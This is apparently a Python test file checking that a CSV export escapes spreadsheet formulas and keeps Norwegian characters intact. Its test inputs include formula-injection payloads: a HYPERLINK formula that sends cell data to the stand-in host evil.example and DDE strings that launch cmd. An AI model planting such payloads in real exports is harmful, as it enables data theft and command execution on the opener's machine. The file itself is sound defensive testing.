"""research.csv: what a volunteer typed never runs as a formula in the researcher's spreadsheet,
and Excel opens the file with æ, ø and å intact."""

import csv
import io

import pytest

from research.csv import BOM, csv_bytes, csv_cell


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=HYPERLINK(\"http://evil.example/?\"&A1;\"Klikk\")", "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Klikk\")"),
        ("+47 912 34 567", "'+47 912 34 567"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_a_cell_that_could_start_a_formula_is_made_text(typed, written):
    assert csv_cell(typed) == written


@pytest.mark.parametrize("typed", ["Åse Ødegård", "ola@example.net", "912 34 567", "Ja", "", "1+1=2", "a=b"])
def test_an_ordinary_cell_is_left_as_it_is(typed):
    assert csv_cell(typed) == typed


def test_none_and_numbers_become_text():
    assert csv_cell(None) == ""
    assert csv_cell(3) == "3"
    assert csv_cell(-3) == "'-3"


def test_the_file_is_utf8_with_a_bom_semicolons_and_every_cell_neutralised():
    content = csv_bytes(["Navn", "Telefon"], [["=1+1", "+4791234567"], ["Åse; Ødegård", "@x"]])
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8")
    assert text.startswith(BOM + "Navn;Telefon\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=";"))
    assert rows == [["Navn", "Telefon"], ["'=1+1", "'+4791234567"], ["Åse; Ødegård", "'@x"]]


def test_a_header_is_neutralised_too():
    # Screening questions are column headings, and a researcher wrote them.
    text = csv_bytes(["=Spørsmål"], []).decode("utf-8")
    assert text == BOM + "'=Spørsmål\r\n"
